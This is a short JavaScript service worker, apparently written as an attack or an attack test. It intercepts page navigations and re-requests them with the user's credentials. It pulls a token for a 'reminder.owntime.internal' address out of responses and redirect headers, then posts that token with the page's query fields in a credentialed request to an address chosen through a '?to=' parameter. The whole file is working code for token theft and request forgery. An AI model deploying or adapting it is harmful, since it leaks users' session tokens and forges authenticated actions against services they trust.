// A service worker that tries to carry on by itself. It reads what it can of the answer to a navigation, looks there
// for a token, and posts the fields of its own address (as ?token=…&choice=…) to the address in ?to=.
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith(forge(event.request.url).then(() => fetch(event.request)));
});

async function forge(address) {
  const fields = new URLSearchParams(location.search);
  const to = fields.get("to");
  for (const name of ["to", "variant"]) fields.delete(name);
  const token = await look(address);
  if (token) fields.set("token", token);
  await fetch(to, { method: "POST", mode: "no-cors", credentials: "include", body: fields }).catch(() => null);
}

async function look(address) {
  const answers = await Promise.allSettled([
    fetch(address, { credentials: "include" }),
    fetch(address, { credentials: "include", redirect: "manual" }),
    fetch(address, { mode: "no-cors" }),
  ]);
  for (const { value } of answers) {
    if (!value) continue;
    const seen = value.url + " " + (value.headers.get("Location") || "") + " " + (await value.text().catch(() => ""));
    const found = seen.match(/reminder\.owntime\.internal\/[\w.-]+\/([\w-]+)/);
    if (found) return found[1];
  }
  return null;
}
